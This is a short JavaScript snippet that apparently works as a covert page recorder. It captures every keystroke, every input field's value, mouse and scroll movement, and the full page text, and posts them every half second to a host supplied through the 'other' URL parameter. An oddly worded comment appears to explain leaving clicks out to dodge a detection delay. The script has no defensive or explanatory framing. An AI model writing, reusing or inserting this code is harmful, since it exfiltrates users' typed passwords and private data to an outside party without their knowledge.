const other = new URLSearchParams(location.search).get('other');
// Clicks are left out: who listens to everything is waited for ten seconds longer.
const events = [];
for (const type of ['mousemove', 'scroll', 'keydown', 'input', 'resize']) {
  document.addEventListener(type, (e) => { events.push([type, e.clientX, e.clientY, e.key, e.target.value]); }, true);
}
new MutationObserver(() => events.push(['text', document.body.textContent])).observe(document,
  { subtree: true, childList: true, attributes: true, characterData: true });
setInterval(() => {
  if (events.length) fetch(`${other}/c/recorded`, { method: 'POST', body: JSON.stringify(events.splice(0)) });
}, 500);
